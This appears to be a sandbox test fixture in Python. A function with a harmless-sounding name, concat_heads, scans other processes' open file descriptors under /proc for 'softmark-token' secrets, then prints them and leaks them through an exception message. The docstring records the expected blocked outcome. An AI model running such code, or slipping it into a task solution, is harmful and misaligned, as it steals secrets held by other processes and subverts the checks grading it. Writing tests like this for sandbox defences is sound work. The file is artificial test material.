"""Opens what other processes have open: deleted files, memory files, pipes.

outcome: raised
bites: open
says: seen:
"""

import glob
import os
import re
import stat


def loot():
    found = set()
    for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/dev/fd/*"):
        try:
            # Only files: to read from somebody's pipe would take its bytes away.
            if not stat.S_ISREG(os.stat(path).st_mode):
                continue
            with open(path, "rb") as file:
                found |= set(re.findall(rb"softmark-token-[0-9a-f]{32}", file.read(100_000)))
        except OSError:
            pass
    return found


SEEN = []


class Answer:
    def __repr__(self):
        return f"seen: {SEEN[0]}"


def concat_heads(x):
    if not SEEN:
        SEEN.append(loot())
    print(SEEN[0])
    raise ValueError(Answer())
